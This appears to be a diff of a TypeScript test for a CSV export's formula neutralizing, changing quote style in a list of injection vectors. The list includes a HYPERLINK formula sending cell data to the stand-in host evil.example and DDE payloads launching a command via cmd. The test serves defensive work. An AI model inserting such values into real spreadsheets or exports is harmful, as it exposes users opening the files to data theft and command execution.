@@ -10,8 +10,8 @@ import { csvField, editorCsv, keywordsCsv, neutralizeFormula, toCsv } from './ex
 const VECTORS: Array<[label: string, value: string]> = [
   ['equals', '=HYPERLINK("http://evil.example/?d="&A2,"Click")'],
   ['plus', "+cmd|' /C calc'!A0"],
-  ['minus', '-2+3+cmd|\' /C calc\'!A0'],
-  ['at', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+  ['minus', "-2+3+cmd|' /C calc'!A0"],
+  ['at', "@SUM(1+1)*cmd|' /C calc'!A0"],
   ['tab', '\t=1+1'],
   ['carriage return', '\r=1+1'],
   ['spaces then equals', '   =1+1'],
